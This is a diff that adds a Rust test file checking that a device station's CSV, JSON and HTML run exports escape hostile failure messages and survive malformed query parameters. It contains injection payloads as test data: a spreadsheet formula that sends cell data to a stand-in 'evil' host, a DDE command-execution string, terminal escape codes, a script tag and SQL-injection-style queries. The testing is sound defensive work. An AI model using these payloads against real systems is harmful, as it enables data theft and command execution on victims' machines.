@@ -1,0 +1,105 @@
+//! Runs that are exported, and what boards say in them: for a program for tables, for one that reads JSON, for a
+//! terminal. Cursors and limits that were made up.
+
+use serde_json::{Value, json};
+
+use crate::browser::{Browser, text};
+use crate::station::{Board, Station};
+
+/// What a board says is the reason of its failure: each of these is computed, ends a field or a line, or moves a cursor
+/// somewhere.
+const REASONS: &[&str] = &[
+    "=HYPERLINK(\"http://evil/?\"&A1)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "says \"no\",\r\n=1,2",
+    "a\u{1b}[2Jb\u{9b}31m",
+    "]\n},\n\"x\": [",
+    "<script>alert(1)</script>",
+];
+
+/// Lines of CSV, as a program for tables reads them.
+fn rows(text: &str) -> Vec<Vec<String>> {
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
+    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
+}
+
+#[test]
+fn what_a_board_says_is_computed_in_no_table_and_ends_no_field() {
+    let dir = tempfile::tempdir().unwrap();
+    let station = Station::start(dir.path(), &["--enrol", "open"]);
+    let mut board = Board::new("10000000af04b2da");
+    board.register(&station).ok();
+    for reason in REASONS {
+        let path = format!("/api/v1/boards/{}/jobs", board.id);
+        station.admin("POST", &path, Some(&json!({"action": "reboot"}))).ok();
+        let work = board.work(&station, 5).ok();
+        let path = format!("/api/v1/device/jobs/{}/result", work["job"].as_str().unwrap());
+        let body = json!({"fence": work["fence"], "stage": "report", "failed": reason});
+        station.call("POST", &path, work["token"].as_str(), Some(&body)).ok();
+    }
+    let viewer = Browser::user(&station, "vic", "viewer");
+    let csv = viewer.page("/runs.csv");
+    assert!(!csv.contains(['\u{1b}', '\u{9b}']), "{csv:?}");
+    let rows = rows(&csv);
+    assert_eq!(rows.len(), REASONS.len() + 1, "{csv}");
+    for row in &rows {
+        assert_eq!(row.len(), 14, "{row:?}");
+        for field in row {
+            assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r']), "{row:?}");
+        }
+    }
+    let answer = viewer.get("/runs.json");
+    let all: Value = serde_json::from_slice(&answer.body).unwrap();
+    assert_eq!(all.as_array().unwrap().len(), REASONS.len());
+    assert!(!text(&answer).contains(['\u{1b}', '\u{9b}']));
+    for header in ["content-disposition", "x-content-type-options"] {
+        assert!(answer.header(header).is_some(), "{header}");
+    }
+    assert!(answer.header("content-disposition").unwrap().starts_with("attachment"));
+    let page = viewer.page("/runs");
+    assert!(!page.contains("<script>alert") && !page.contains('\u{1b}'));
+}
+
+#[test]
+fn a_cursor_or_a_filter_that_was_made_up_breaks_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let station = Station::start(dir.path(), &[]);
+    let viewer = Browser::user(&station, "vic", "viewer");
+    let long = "a".repeat(5000);
+    for page in ["/runs", "/runs.csv", "/runs.json", "/boards"] {
+        for query in [
+            "after=%00",
+            "after=-1",
+            "after=99999999999999999999.x",
+            "after=1.%27%20or%201=1--",
+            "limit=18446744073709551615",
+            "limit=-1",
+            "q=%25_%27%3B--",
+            "why=%00%ff",
+            "from=9999-99-99",
+            "from=-262144-01-01",
+            "to=0000-00-00",
+            "way=x%00",
+            "sort=id;drop",
+            &format!("after={long}"),
+            &format!("q={long}"),
+        ] {
+            let answer = viewer.get(&format!("{page}?{query}"));
+            let status = answer.status;
+            assert!(
+                answer.whole && (status == 200 || (400..500).contains(&status)),
+                "{page}?{query}: {status}"
+            );
+        }
+    }
+    // Nobody who isn't known gets anything.
+    for page in ["/runs", "/runs.csv", "/runs.json", "/boards"] {
+        assert_eq!(
+            Browser::new(&station).get(page).header("location").map(|to| to.starts_with("/login")),
+            Some(true)
+        );
+    }
+}
